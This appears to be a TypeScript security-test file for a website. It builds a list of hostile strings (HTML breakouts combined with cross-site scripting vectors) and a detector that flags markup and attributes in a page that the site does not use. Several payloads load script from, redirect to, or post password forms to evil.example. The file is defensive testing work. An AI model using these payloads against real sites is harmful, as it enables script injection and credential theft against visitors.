/** What a stranger may write into DNS, a banner or a header, hoping that a page runs it or falls apart (security CHK-5). */

/** Ends whatever the text may stand in. */
const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '</code></pre>',
  '</title>',
  '</textarea>',
  '</details></main>',
  '-->',
  '" ',
  "' ",
  '\u0000',
  '&quot;&gt;',
]

/** Runs, loads, hides or redirects something. */
const vectors = [
  '<script>document.title="run"</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=document.title="run">',
  '<svg/onload=document.title="run">',
  '<svg><script xlink:href=data:,document.title=1 /></svg>',
  '<iframe srcdoc="<script>parent.document.title=1</script>">',
  '<math><mi href="javascript:document.title=1">x</mi></math>',
  '<base href="https://evil.example/">',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input type=password>',
  '<object data=data:text/html,x></object>',
  '<a href="javascript:document.title=1" autofocus onfocus=document.title=1>',
  'onmouseover=document.title="run" style=position:fixed;inset:0 x=',
  '<!--><plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=1>',
  '{{constructor.constructor("document.title=1")()}}',
  '${document.title=1}',
  ['javascript', 'document.title="run"'].join(':'),
  '\u202e<b>moc.elpmaxe\u202c',
]

export function hostileTexts(): readonly string[] {
  return breakouts.flatMap((breakout) => vectors.map((vector) => `${breakout}${vector}`))
}

/** All that pages of the site are made of. */
const ownTags = new Set(
  `html head meta title link body a header nav main footer div section span p h1 h2 h3 h4 ul ol li dl dt dd b strong em small code pre
  blockquote table caption thead tbody tr th td form label input textarea select option button fieldset legend details summary time mark svg noscript
  path title desc use g rect circle line text polyline abbr hr br script`.split(/\s+/),
)
const ownLink = /^(?:\/|#|\?|https:\/\/|mailto:|$)/

/**
 * Markup in a page that is none of ours, read the way a browser reads it: tags that no page uses, attributes that run something, links that
 * are none.
 */
export function strangeMarkup(page: string): readonly string[] {
  const found: string[] = []
  const tag = /<(?:!--|(\/?)([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>|[!?])/gi
  for (const [whole, slash = '', name = '', rest = ''] of page.matchAll(tag)) {
    const lower = name.toLowerCase()
    if (whole === '<!' && found.length === 0) continue
    if (!ownTags.has(lower)) found.push(whole)
    else if (slash === '') found.push(...strangeAttributes(lower, rest).map((each) => `${each} in ${whole}`))
  }
  return found
}

function strangeAttributes(tag: string, rest: string): readonly string[] {
  const attributes = [...rest.matchAll(/([^\s=/"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map(
    ([, name = '', value = '']) => ({
      name: name.toLowerCase(),
      value,
      plain: value.replace(/^["']|["']$/g, ''),
    }),
  )
  const source = attributes.find(({ name }) => name === 'src')?.plain ?? ''
  return [
    ...attributes.flatMap(({ name, value, plain }) => {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction') return [name]
      if (value !== '' && !/^["']/.test(value)) return [`${name} without quotes`]
      // The mark in the tab.
      if (tag === 'link' && plain.startsWith('data:image/svg+xml;base64,')) return []
      return ['href', 'src', 'action'].includes(name) && !ownLink.test(plain) ? [`${name}=${plain}`] : []
    }),
    ...(tag === 'script' && !/^\/[^/]/.test(source) ? ['a script of somebody else'] : []),
    ...(tag === 'meta' && /refresh/i.test(rest) ? ['a refresh'] : []),
    ...(tag === 'form' && !/action="(?:\/[^/]|\?)/.test(rest) ? ['a form that leads away'] : []),
  ]
}
